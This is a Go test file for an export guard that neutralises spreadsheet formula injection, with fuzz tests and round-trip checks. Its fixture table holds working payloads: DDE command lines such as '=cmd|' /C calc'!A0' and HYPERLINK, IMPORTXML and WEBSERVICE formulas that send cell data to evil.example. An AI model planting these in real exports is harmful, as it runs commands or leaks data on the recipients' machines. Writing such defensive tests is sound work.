package spreadsheet_test

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"holdpoint/engine/spreadsheet"
)

// attacks are what is tried on people who open an export, and harmless texts
// beside them; what a cell holds for each.
var attacks = []struct{ text, want string }{
	// Formulas, by each of their signs.
	{`=SUM(A1:A9)`, `[U+003D]SUM(A1:A9)`},
	{`=cmd|' /C calc'!A0`, `[U+003D]cmd|' /C calc'!A0`},
	{`+cmd|' /C calc'!A0`, `[U+002B]cmd|' /C calc'!A0`},
	{`-2+3+cmd|' /C calc'!A0`, `[U+002D]2+3+cmd|' /C calc'!A0`},
	{`@SUM(1+1)*cmd|' /C calc'!A0`, `[U+0040]SUM(1+1)*cmd|' /C calc'!A0`},
	{`=HYPERLINK("http://evil.example?x="&A1,"Error")`, `[U+003D]HYPERLINK("http://evil.example?x="&A1,"Error")`},
	{`=IMPORTXML("http://evil.example","//a")`, `[U+003D]IMPORTXML("http://evil.example","//a")`},
	{`=WEBSERVICE("http://evil.example/"&A1)`, `[U+003D]WEBSERVICE("http://evil.example/"&A1)`},
	{`|calc`, `[U+007C]calc`},
	{`%0A=1`, `[U+0025]0A=1`},
	{`==1`, `[U+003D]=1`},
	{`-`, `[U+002D]`},
	{`=`, `[U+003D]`},
	// Behind what programs strip.
	{` =1`, ` [U+003D]1`},
	{"\t=1", `[U+0009][U+003D]1`},
	{"\r=1", `[U+000D][U+003D]1`},
	{"\n=1", `[U+000A][U+003D]1`},
	{"\v\f=1", `[U+000B][U+000C][U+003D]1`},
	{"\u00a0=1", `[U+00A0][U+003D]1`},
	{"\u3000=1", `[U+3000][U+003D]1`},
	{"\u200b=1", `[U+200B][U+003D]1`},
	{"\ufeff=1", `[U+FEFF][U+003D]1`},
	{"\x00=1", `[U+0000][U+003D]1`},
	{"\xff=1", `[BYTE FF][U+003D]1`},
	{"\u202e=1", `[U+202E][U+003D]1`},
	{"\u2028=1", `[U+2028][U+003D]1`},
	{`"=1"`, `"[U+003D]1"`},
	{`'=1`, `'[U+003D]1`},
	{`"" '=1`, `"" '[U+003D]1`},
	{"“=1”", "“[U+003D]1”"},
	{"‘ =1", "‘ [U+003D]1"},
	{"`=1", "`[U+003D]1"},
	{"＂=1", "＂[U+003D]1"},
	// Variants that some programs fold into the signs.
	{"＝1+1", "[U+FF1D]1+1"},
	{"＋1", "[U+FF0B]1"},
	{"－1", "[U+FF0D]1"},
	{"＠A", "[U+FF20]A"},
	{"﹦1", "[U+FE66]1"},
	{"﹢1", "[U+FE62]1"},
	{"﹣1", "[U+FE63]1"},
	{"﹫A", "[U+FE6B]A"},
	{"−1", "[U+2212]1"},
	{"–1", "[U+2013]1"},
	{"⁼1", "[U+207C]1"},
	{"₊1", "[U+208A]1"},
	{"➕1", "[U+2795]1"},
	{"꞊1", "[U+A78A]1"},
	// Separators of other countries, and quotes that are closed early.
	{`x;=1+1`, `x;[U+003D]1+1`},
	{`x,=1+1`, `x,[U+003D]1+1`},
	{"x\t=1+1", `x[U+0009][U+003D]1+1`},
	{`x|@A`, `x|[U+0040]A`},
	{`x; "=1`, `x; "[U+003D]1`},
	{`a",=1`, `a",[U+003D]1`},
	{`a";"=1`, `a";"[U+003D]1`},
	{`;;=1`, `;;[U+003D]1`},
	{`；=1`, `；[U+003D]1`},
	{`;-;-`, `;[U+002D];[U+002D]`},
	// Lines within a cell.
	{"ok\n=1+1", `ok[U+000A][U+003D]1+1`},
	{"ok\r\n=1+1", `ok[U+000D][U+000A][U+003D]1+1`},
	{"ok\r=1", `ok[U+000D][U+003D]1`},
	{"ok\"\n=1", `ok"[U+000A][U+003D]1`},
	{"\r", `[U+000D]`},
	{"a\rb", `a[U+000D]b`},
	{"a\r\nb", `a[U+000D][U+000A]b`},
	{"a\x00b", `a[U+0000]b`},
	{"a\x85b", `a[BYTE 85]b`},
	{"a\u0085b", `a[U+0085]b`},
	// What hides or reorders.
	{"a\u202eb\u202c", `a[U+202E]b[U+202C]`},
	{"a\u2066b\u2069", `a[U+2066]b[U+2069]`},
	{"a\u200fb", `a[U+200F]b`},
	{"a\u061cb", `a[U+061C]b`},
	{"a\u00adb", `a[U+00AD]b`},
	{"a\u2060b", `a[U+2060]b`},
	{"a\U000e0041b", `a[U+E0041]b`},
	{"a\ufe0fb", `a[U+FE0F]b`},
	{"a\u3164b", `a[U+3164]b`},
	{"a\u2800b", `a[U+2800]b`},
	{"a\ue000b", `a[U+E000]b`},
	{"a\uffffb", `a[U+FFFF]b`},
	{"a\U0010ffffb", `a[U+10FFFF]b`},
	{"\x1b[31mred", `[U+001B][31mred`},
	{"a\x7fb", `a[U+007F]b`},
	{"\u0301a", `[U+0301]a`},
	{"e\u0301", "e\u0301"},
	{"e\u0301\u0301\u0301\u0301\u0301", "e\u0301\u0301\u0301\u0301[U+0301]"},
	{"a \u0301", `a [U+0301]`},
	// Texts that are labels already, or nearly.
	{`[U+003D]1`, `[U+005B]U+003D]1`},
	{`[U+`, `[U+005B]U+`},
	{`[BYTE FF]`, `[U+005B]BYTE FF]`},
	{`[[U+003D]`, `[[U+005B]U+003D]`},
	{`[U+005B]U+003D]`, `[U+005B]U+005B]U+003D]`},
	{`[u+003d]`, `[u+003d]`},
	{`[BYTE`, `[BYTE`},
	{`[U`, `[U`},
	{`=[U+003D]`, `[U+003D][U+005B]U+003D]`},
	// Harmless.
	{``, ``},
	{`payments.refund`, `payments.refund`},
	{`a=b, c+d; e-f@g`, `a=b, c+d; e-f@g`},
	{`2026-07-24T09:00:07.123457Z`, `2026-07-24T09:00:07.123457Z`},
	{`{"a":-1,"b":"=x"}`, `{"a":-1,"b":"=x"}`},
	{`["A","-b"]`, `["A","[U+002D]b"]`},
	{`[1,-2]`, `[1,[U+002D]2]`},
	{`O'Hara (“Finn”) pays 5 % – at once`, `O'Hara (“Finn”) pays 5 % – at once`},
	{`Grüße, 日本語, שלום, 😀`, `Grüße, 日本語, שלום, 😀`},
	{`'`, `'`},
	{` `, ` `},
	{`\u003d`, `\u003d`},
}

func TestAttacks(t *testing.T) {
	for _, a := range attacks {
		got := spreadsheet.Guard(a.text)
		if got != a.want {
			t.Errorf("Guard(%q) = %q, want %q", a.text, got, a.want)
		}
		holds(t, a.text)
	}
}

// TestLongCells: what a program cuts off a cell that is too long for it begins
// no formula either.
func TestLongCells(t *testing.T) {
	text := strings.Repeat("a", 32767) + "=1+1" + strings.Repeat("b", 40000) + "@A"
	cell := spreadsheet.Guard(text)
	if strings.Contains(cell, "=") || strings.Contains(cell, "@") || !strings.Contains(cell, "a[U+003D]1[U+002B]1b") {
		t.Errorf("a long cell holds %q", cell[32760:32800])
	}
	holds(t, text)
	// It is the cell that must not be too long, not the text.
	if cell := spreadsheet.Guard("a=" + strings.Repeat("\x01", 5000)); !strings.HasPrefix(cell, "a[U+003D][U+0001]") {
		t.Errorf("a cell of %d bytes begins with %q", len(cell), cell[:20])
	}
	if cell := spreadsheet.Guard("a=" + strings.Repeat("b", 32765)); cell[1] != '=' {
		t.Errorf("a cell of %d bytes begins with %q", len(cell), cell[:20])
	}
}

// holds checks what is promised of the cells of any text: encoding/csv reads
// them back, a record is one line, nothing begins a formula by rules of its own
// (not Guard's), nothing is hidden, and the way back gives the text.
func holds(t *testing.T, text string) {
	t.Helper()
	var file bytes.Buffer
	w := csv.NewWriter(&file)
	row := []string{text, "x", text}
	if err := spreadsheet.Write(w, row); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if bytes.Count(file.Bytes(), []byte("\n")) != 1 || bytes.ContainsAny(file.Bytes(), "\r\x00\t\u2028\u2029\u0085") || !utf8.Valid(file.Bytes()) {
		t.Fatalf("%q becomes the record %q", text, file.Bytes())
	}
	for _, separator := range `;|,` {
		// As a program reads the line that minds no quotes.
		for part := range strings.SplitSeq(strings.TrimSuffix(file.String(), "\n"), string(separator)) {
			if formula(part) {
				t.Fatalf("%q becomes %q, which split at %q has the cell %q", text, file.String(), separator, part)
			}
		}
	}
	got, err := csv.NewReader(&file).Read()
	if err != nil {
		t.Fatalf("%q cannot be read back: %v", text, err)
	}
	if want := []string{spreadsheet.Guard(text), "x", spreadsheet.Guard(text)}; !reflect.DeepEqual(got, want) {
		t.Fatalf("%q is read back as %q, want %q", text, got, want)
	}
	for _, cell := range got {
		if formula(cell) {
			t.Fatalf("%q becomes the cell %q", text, cell)
		}
		for _, c := range cell {
			if unicode.IsControl(c) || unicode.In(c, unicode.Cf, unicode.Zl, unicode.Zp, unicode.Co, unicode.Bidi_Control) || unicode.IsSpace(c) && c != ' ' {
				t.Fatalf("%q becomes the cell %q, with %U in it", text, cell, c)
			}
		}
	}
	back, err := spreadsheet.Unguard(got[0])
	if err != nil || back != text {
		t.Fatalf("%q becomes %q, and that becomes %q (%v)", text, got[0], back, err)
	}
}

// formula reports whether a program that strips blanks, quotes and whatever it
// does not show might compute the cell.
func formula(cell string) bool {
	rest := strings.TrimLeftFunc(cell, func(c rune) bool {
		return !unicode.IsGraphic(c) || unicode.IsSpace(c) || unicode.In(c, unicode.Pi, unicode.Pf) || strings.ContainsRune("\"'`´＂＇", c)
	})
	c, _ := utf8.DecodeRuneInString(rest)
	return rest != "" && strings.ContainsRune("=+-@%|＝＋－＠％｜﹦﹢﹣﹫−", c)
}

func TestUnguardRefuses(t *testing.T) {
	for _, cell := range []string{
		"[U+", "[U+]", "[U+3D]", "[U+003d]", "[U+0003D]", "[U+D800]", "[U+110000]", "[U+1FFFFFF]", "[U+003D", "a[U+00 3D]", "[U++03D]", "[BYTE ]", "[BYTE F]", "[BYTE ff]",
		"[BYTE 1FF]", "[BYTE FF", "[BYTE 0xF]", "x[U+003D]y[U+zzzz]",
	} {
		if text, err := spreadsheet.Unguard(cell); err == nil {
			t.Errorf("Unguard(%q) = %q", cell, text)
		}
	}
}

func FuzzGuard(f *testing.F) {
	for _, a := range attacks {
		f.Add(a.text)
	}
	f.Fuzz(holds)
}

func FuzzUnguard(f *testing.F) {
	for _, a := range attacks {
		f.Add(a.want)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		text, err := spreadsheet.Unguard(cell)
		if err != nil {
			return
		}
		if again, err := spreadsheet.Unguard(spreadsheet.Guard(text)); err != nil || again != text {
			t.Fatalf("%q is %q, which comes back as %q (%v)", cell, text, again, err)
		}
	})
}
